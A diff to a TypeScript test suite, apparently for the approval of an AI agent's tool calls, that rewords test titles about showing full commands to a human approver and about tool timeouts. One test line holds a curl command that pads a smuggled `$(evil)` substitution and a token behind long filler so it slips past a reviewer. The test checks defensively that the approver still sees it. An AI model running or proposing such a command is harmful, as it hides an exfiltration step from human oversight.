@@ -24,7 +24,7 @@ describe("a person who is to allow a tool call", () => {
     assert.deepEqual(turn.ends, ["completed"]);
   });
 
-  it("sees the whole command, also where it is long or looks like a secret", async () => {
+  it("sees the whole command, even if it is long or looks like a secret", async () => {
     const filler = "echo hello world; ".repeat(2_000);
     const command = `${filler}curl 'x?token=$(evil)'\necho last`;
     const { turn } = await call([{ name: "run_command", arguments: { command } }], {
@@ -40,7 +40,7 @@ describe("a person who is to allow a tool call", () => {
     assert.ok(String(told?.title).length <= 301, "what is only told stays small");
   });
 
-  it("reads in the label of always what it stands for, and in which folder", async () => {
+  it("reads in the label of 'always' what it covers, and in which folder", async () => {
     const run = (cwd: string) => ({ name: "run_command", arguments: { command: "true", cwd } });
     const edit = { name: "write_file", arguments: { path: "a", content: "x" } };
     const commit = { name: "git_commit", arguments: { message: "m" } };
@@ -71,7 +71,7 @@ describe("a person who is to allow a tool call", () => {
 });
 
 describe("a tool that takes too long", () => {
-  it("is given up with the code of the specification; a person may take their time", async () => {
+  it("is stopped with the code of the specification; time for a person's answer does not count", async () => {
     const offer = new Offer();
     const definition = { name: "slow", inputSchema: { type: "object" } };
     const waits = Promise.withResolvers<never>();
@@ -92,7 +92,7 @@ describe("a tool that takes too long", () => {
     assert.deepEqual(turn.ends, ["failed", "completed"]);
   });
 
-  it("of ours is given up as well", async () => {
+  it("is stopped as well if it is our own", async () => {
     const fs = { readTextFile: () => new Promise<never>(() => {}) };
     const { codes, answers } = await call([read("a")], {
       files: { a: "a" },
